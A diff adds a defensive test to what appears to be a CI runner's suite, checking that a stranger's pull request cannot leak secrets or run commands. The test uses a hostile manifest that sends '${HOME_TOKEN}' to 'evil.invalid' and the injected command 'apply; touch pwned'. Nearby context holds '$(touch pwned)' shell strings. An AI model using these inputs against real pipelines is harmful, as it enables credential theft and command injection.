@@ -209,6 +209,35 @@ def test_the_key_may_be_an_input_and_the_summary_left_out(make: Make, sandbox: C
     assert runner.summary == ""
 
 
+def test_a_pull_request_of_a_stranger(make: Make, sandbox: Callable[..., Sandbox]) -> None:
+    """Checked with the protected branch's policy, without the key at hand; and not run with it by mistake either."""
+    server = sandbox()
+    evil = "server: {url: 'https://evil.invalid', apiKey: '${HOME_TOKEN}'}\nscriptName: x\n"
+    runner = make(manifest="job.yaml", command="validate", policy="../trusted/policy.yaml", api_key=server.api_key)
+    runner.env |= {"HOME_TOKEN": "t-0815-token", "AFT_API_KEY": server.api_key}
+    workspace, trusted = runner.folder / "workspace", runner.folder / "trusted"
+    trusted.mkdir()
+    (trusted / "policy.yaml").write_text(f"servers: ['{server.url}']\nenv: [AFT_API_KEY]\n", encoding="utf-8")
+    (workspace / "job.yaml").write_text(evil, encoding="utf-8")
+    # What the pull request says of a policy, and of what it did before, counts for nothing.
+    (workspace / ".aftrun-policy.yaml").write_text("{}\n", encoding="utf-8")
+    assert apply_and_count(runner) == 2
+    said = runner.said["apply"]
+    assert said.count("::error") == 2
+    assert "file=job.yaml,line=1" in said
+    assert "does not allow it" in said
+    (workspace / "job.yaml").write_text(f"scriptName: x\nserver: {{url: '{server.url}'}}\n", encoding="utf-8")
+    assert apply_and_count(runner) == 0, runner.said["apply"]
+    (workspace / "job.yaml").write_text(evil, encoding="utf-8")
+    runner.inputs["command"] = "apply"
+    assert apply_and_count(runner) == 2
+    runner.inputs["command"] = "apply; touch pwned"
+    assert apply_and_count(runner) == 2
+    assert not list(runner.folder.rglob("pwned"))
+    assert not server.jobs()
+    assert not any(secret in text for text in runner.said.values() for secret in ("t-0815-token", server.api_key))
+
+
 def test_no_input_is_ever_a_command(make: Make) -> None:
     """What a shell would run, expand or split arrives as it stands, and becomes an error message at most."""
     evil = "$(touch pwned) `touch pwned`; touch pwned && \"$HOME\" '*'"
